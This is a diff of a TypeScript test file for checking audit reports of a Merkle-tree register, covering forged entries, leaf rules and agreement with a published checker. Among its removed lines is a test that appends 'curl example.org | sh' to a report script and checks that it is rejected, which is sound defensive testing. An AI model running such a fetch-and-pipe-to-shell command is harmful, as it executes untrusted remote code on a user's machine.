@@ -8,13 +8,12 @@ import { flipBit } from '../../testing/builders.ts';
 import { aBundle, NOON, ODD_TEXTS } from '../../testing/evidence-builders.ts';
 import { runAudit } from '../../testing/audit-world.ts';
 import { pagedRegister } from '../../testing/paged-register.ts';
-import { OPENSSL_REASON, runScript, SHELLS } from '../../testing/shells.ts';
-import type { AuditResult } from '../audit/audit-types.ts';
-import type { AuditReport } from './audit-report.ts';
-import { hexOf } from './file-parts.ts';
-import { openEvidence, parseAuditReport } from './open-evidence.ts';
-import { auditScriptOf, recheckAuditReport } from './recheck-audit-report.ts';
-import { makeAuditReport, writeAuditReport } from './write-audit-report.ts';
+import { checkerOutcome, pageOutcome } from '../../testing/published-checker.ts';
+import type { AuditResult } from '../audit-result.ts';
+import { checkAuditReport, type FileOutcome } from './check-evidence.ts';
+import { decodeEvidence } from './decode-evidence.ts';
+import type { AuditReport, ReportedEntry } from './formats.ts';
+import { makeAuditReport } from './write-audit-report.ts';
 
 const WHERE = {
   address: 'https://country.example/v2',
@@ -34,9 +33,18 @@ async function auditOfBad(bad: readonly number[], key = 'other'): Promise<AuditR
 }
 
 function reopened(result: AuditResult): AuditReport {
-  const opened = openEvidence(writeAuditReport(result, WHERE, NOON) ?? '');
+  const opened = decodeEvidence(JSON.stringify(makeAuditReport(result, WHERE, NOON)));
   if (opened.kind !== 'audit-report') throw new Error(JSON.stringify(opened));
   return opened.report;
+}
+
+/** expectSame demands this outcome of page and published checker, also of the report as version 1 had it. */
+function expectSame(report: AuditReport, outcome: FileOutcome): void {
+  const { about: _, ...rest } = report;
+  for (const file of [report, { ...rest, version: 1, check: { words: [], script: ['exit 0'] } }]) {
+    const bytes = Buffer.from(JSON.stringify(file));
+    expect([pageOutcome(bytes), checkerOutcome(bytes)]).toEqual([outcome, outcome]);
+  }
 }
 
 let one: AuditReport;
@@ -47,38 +55,29 @@ beforeAll(async () => {
 });
 
 describe('a report of an audit', () => {
-  it('shows a bad entry without the register, and the root that it makes', () => {
-    const { shows, finding, entries, rebuilt, script, published } = recheckAuditReport(one);
-    expect(shows).toBe(true);
-    expect(finding).toBe(
-      'This file shows that the root of 21 entries in it commits to another entry than entry 7 as in the file.',
-    );
+  it('shows a bad entry without the register, and the root that it gives', () => {
+    const { claim, finding, entries, rebuilt } = checkAuditReport(one);
+    expect(claim.outcome).toBe('holds');
+    expect(finding).toMatch(/commits to another entry than entry 7 in the file/);
     expect(entries).toMatchObject([
       {
         check: { entry: { entryNumber: 7, key: 'other' }, verdict: { outcome: 'does-not-match' } },
         another: { outcome: 'holds' },
       },
     ]);
-    expect([rebuilt.outcome, script.outcome, published.outcome]).toEqual(['holds', 'holds', 'not-checked']);
+    expect(rebuilt.outcome).toBe('holds');
+    expectSame(one, 'not-checked');
   });
 
   it('shows each of several, and leaves to an audit what only all entries show', () => {
-    const { shows, entries, rebuilt } = recheckAuditReport(three);
-    expect(shows).toBe(true);
+    const { claim, entries, rebuilt } = checkAuditReport(three);
+    expect(claim.outcome).toBe('holds');
     expect(entries.map(({ check }) => check.entry.entryNumber)).toEqual([1, 16, 21]);
     expect(rebuilt).toMatchObject({
       outcome: 'not-checked',
       reason: expect.stringMatching(/only by an audit/),
     });
-  });
-
-  it.skipIf(SHELLS.length === 0)(`comes to the same by its script (${OPENSSL_REASON})`, () => {
-    for (const report of [one, three])
-      for (const shell of SHELLS) {
-        const { status, stdout, stderr, left } = runScript(report.check.script.join('\n'), shell);
-        expect([status, stderr, left]).toEqual([0, '', []]);
-        expect(stdout).toMatch(/The report shows what it says, if/);
-      }
+    expectSame(three, 'not-checked');
   });
 
   it('of a root that no entry explains holds none, and says what that leaves to do', async () => {
@@ -86,11 +85,8 @@ describe('a report of an audit', () => {
     const head = { logSize: 9, rootHash: flipBit(register.head().rootHash, 3) };
     const report = reopened(await runAudit({ ...register.options(), head }));
     expect(report.entries).toEqual([]);
-    const { shows, finding, rebuilt } = recheckAuditReport(report);
-    expect([shows, rebuilt.outcome]).toEqual([false, 'not-checked']);
-    expect(finding).toMatch(/no entry by which it could be seen/);
-    if (SHELLS.length > 0)
-      expect(runScript(report.check.script.join('\n'))).toMatchObject({ status: 1, stderr: '' });
+    expect(checkAuditReport(report).finding).toMatch(/no entry by which it could be seen/);
+    expectSame(report, 'cannot-check');
   });
 
   it('is not made of an audit in which nothing did not match', async () => {
@@ -106,13 +102,9 @@ describe('a report of an audit', () => {
     expect(reopened({ ...result, findings: spoilt }).entries).toEqual([]);
   });
 
-  it('holds no text of the register but as quoted data, and harmless comments', async () => {
-    for (const key of ODD_TEXTS) {
-      const report = reopened(await auditOfBad([3], key));
-      expect(recheckAuditReport(report).shows).toBe(true);
-      if (SHELLS.length > 0)
-        expect(runScript(report.check.script.join('\n'))).toMatchObject({ status: 0, stderr: '', left: [] });
-    }
+  it.each(ODD_TEXTS)('holds for the key %j', async (key) => {
+    expect.hasAssertions();
+    expectSame(reopened(await auditOfBad([3], key)), 'not-checked');
   });
 });
 
@@ -123,7 +115,7 @@ describe('a forged report of an audit', () => {
   });
   const expected = (): Hash => one.entries[0]?.expected ?? ('' as Hash);
 
-  it.each<[string, () => AuditReport, RegExp]>([
+  it.each<[string, () => AuditReport, RegExp, FileOutcome?]>([
     [
       'of an entry that is under the root',
       () => {
@@ -136,13 +128,13 @@ describe('a forged report of an audit', () => {
     [
       'with a leaf hash that leads nowhere',
       () => changed({ expected: flipBit(expected(), 5) }),
-      /does not lead to the root either/,
+      /does not connect to the root either/,
     ],
-    ['with a path cut short', () => changed({ auditPath: [] }), /does not lead to the root either/],
+    ['with a path cut short', () => changed({ auditPath: [] }), /does not connect to the root either/],
     [
       'with another root',
       () => ({ ...one, head: { ...one.head, rootHash: flipBit(one.head.rootHash, 9) } }),
-      /does not lead to the root either/,
+      /does not connect to the root either/,
     ],
     [
       'of another place',
@@ -156,47 +148,40 @@ describe('a forged report of an audit', () => {
         return rest;
       },
       /does not say by which leaf rule/,
+      'cannot-check',
     ],
-  ])('%s shows nothing, neither here nor by its script', (_, forge, why) => {
+  ])('%s shows nothing', (_, forge, why, outcome = 'does-not-match') => {
     const report = forge();
-    const { shows, finding } = recheckAuditReport(report);
-    expect(shows).toBe(false);
-    expect(finding).toMatch(why);
-    const script = auditScriptOf(report);
-    if (script && SHELLS.length > 0) expect(runScript(script.join('\n')).status).toBe(1);
+    expect(checkAuditReport(report).finding).toMatch(why);
+    expectSame(report, outcome);
   });
 
   it('of a true entry, hashed by another rule than its register has, shows nothing', () => {
     const honest = aBundle({ rule: 'blob-hex', entryNumber: 6, logSize: 11 });
     const { entry, auditPath, checkpoint, leaf } = honest;
     const expected = hashFromBytes(hashLeaf(Buffer.from(leaf.bytes, 'hex')));
-    const leafBytes = hexOf(leafRule('blob-multihash').leafBytes(entry) ?? new Uint8Array());
+    const leafBytes = Buffer.from(leafRule('blob-multihash').leafBytes(entry) ?? []).toString('hex');
     const { rebuiltRoot: _, ...rest } = one;
-    const { shows, finding } = recheckAuditReport({
+    const report: AuditReport = {
       ...rest,
       register: { ...one.register, variant: 'blob' },
       leafRule: 'blob-multihash',
       head: checkpoint,
       entries: [{ entry, leafBytes, expected, auditPath }],
-    });
-    expect(shows).toBe(false);
-    expect(finding).toMatch(/by another leaf rule .* it is the very entry under the root/);
-  });
-
-  it('with commands of its own has them told apart', () => {
-    const script = [...one.check.script, 'curl example.org | sh'];
-    expect(recheckAuditReport({ ...one, check: { ...one.check, script } }).script.outcome).toBe(
-      'cannot-check',
+    };
+    expectSame(report, 'does-not-match');
+    expect(checkAuditReport(report).finding).toMatch(
+      /by another leaf rule .* it is the very entry under the root/,
     );
-    expect(auditScriptOf({ ...one, check: { ...one.check, script } })).toEqual(one.check.script);
   });
 
   it('with a rebuilt root of its own is found out where one entry is all that differs', () => {
     const rebuiltRoot = flipBit(one.rebuiltRoot ?? expected(), 1);
-    expect(recheckAuditReport({ ...one, rebuiltRoot }).rebuilt.outcome).toBe('does-not-match');
+    expect(checkAuditReport({ ...one, rebuiltRoot }).rebuilt.outcome).toBe('does-not-match');
+    expectSame({ ...one, rebuiltRoot }, 'does-not-match');
   });
 
-  it('never makes the checks throw, whatever can be read', () => {
+  it('never makes the checks throw, and comes to the same by the published checker, whatever can be read', () => {
     const hashes = fc.constantFrom(expected(), one.head.rootHash, 'ab'.repeat(32) as Hash);
     fc.assert(
       fc.property(
@@ -209,29 +194,33 @@ describe('a forged report of an audit', () => {
         (entryNumber, logSize, leafRule, key, auditPath, other) => {
           const { leafRule: _, ...rest } = one;
           const entry = { ...one.entries[0]?.entry, entryNumber, key, itemHashes: [other] };
-          const parsed = parseAuditReport({
+          const report = {
             ...rest,
             ...(leafRule && { leafRule }),
             head: { logSize, rootHash: one.head.rootHash },
-            entries: [{ ...one.entries[0], entry, auditPath, expected: other }],
-          });
-          if ('problems' in parsed) throw new Error(JSON.stringify(parsed.problems));
-          expect(recheckAuditReport(parsed.report).shows).toBe(false);
-          auditScriptOf(parsed.report);
+            entries: [{ ...(one.entries[0] as ReportedEntry), entry, auditPath, expected: other }],
+          };
+          const { outcome } = checkAuditReport(report as AuditReport);
+          expect(outcome).not.toBe('not-checked');
+          expectSame(report as AuditReport, outcome);
         },
       ),
-      { numRuns: 500 },
+      { numRuns: 150 },
     );
   });
 
   it('that is not of the described form is not read at all', () => {
     for (const spoilt of [
-      { ...one, version: 2 },
+      { ...one, version: 1 },
+      { ...one, version: 3 },
       { ...one, extra: 1 },
       { ...one, findingCount: 0 },
       { ...one, head: { ...one.head, logSize: 0 } },
       { ...one, entries: [{ ...one.entries[0], verified: true }] },
     ])
-      expect(openEvidence(JSON.stringify(spoilt)).kind).toBe('unreadable');
+      expect([
+        decodeEvidence(JSON.stringify(spoilt)).kind,
+        checkerOutcome(Buffer.from(JSON.stringify(spoilt))),
+      ]).toEqual(['unreadable', 'cannot-check']);
   });
 });
